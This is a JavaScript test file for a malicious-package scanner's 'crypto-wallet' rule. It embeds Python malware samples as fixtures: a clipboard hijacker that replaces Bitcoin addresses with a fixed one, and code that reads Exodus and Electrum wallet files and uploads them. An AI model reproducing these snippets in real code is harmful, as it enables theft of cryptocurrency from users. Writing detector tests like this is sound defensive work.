import { describe, it, expect } from 'vitest';
import { hits, maxSev } from './helpers.js';

describe('crypto-wallet', () => {
  it('flags a clipboard address swapper (high)', () => {
    const src = `import pyperclip, re, time\nwhile True:\n    t = pyperclip.paste()\n    if re.match(r'^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$', t):\n        pyperclip.copy('bc1qxy2kgdygjrsqtzq2n0yrf2493p83kkfjhx0wlh')\n    time.sleep(1)\n`;
    expect(maxSev(hits('crypto-wallet', { 'pkg/__init__.py': src }))).toBe('high');
  });
  it('flags wallet files read and sent (high)', () => {
    const src = `import os, requests\nfor w in ['Exodus/exodus.wallet', 'Electrum/wallets']:\n    p = os.path.join(os.getenv('APPDATA'), w)\n    requests.post(U, files={'f': open(p, 'rb')})\n`;
    expect(maxSev(hits('crypto-wallet', { 'pkg/w.py': src }))).toBe('high');
  });
  it('does not flag a wallet library that names addresses without clipboard or file reads', () => {
    const src = `ADDRESS_RE = r'^0x[a-fA-F0-9]{40}$'\ndef valid(a):\n    import re\n    return re.match(ADDRESS_RE, a) is not None\n`;
    expect(hits('crypto-wallet', { 'pkg/eth.py': src })).toEqual([]);
  });
  it('does not flag a clipboard utility without addresses', () => {
    expect(hits('crypto-wallet', { 'pkg/clip.py': `import pyperclip\ndef copy(t):\n    pyperclip.copy(t)\n` })).toEqual([]);
  });
});
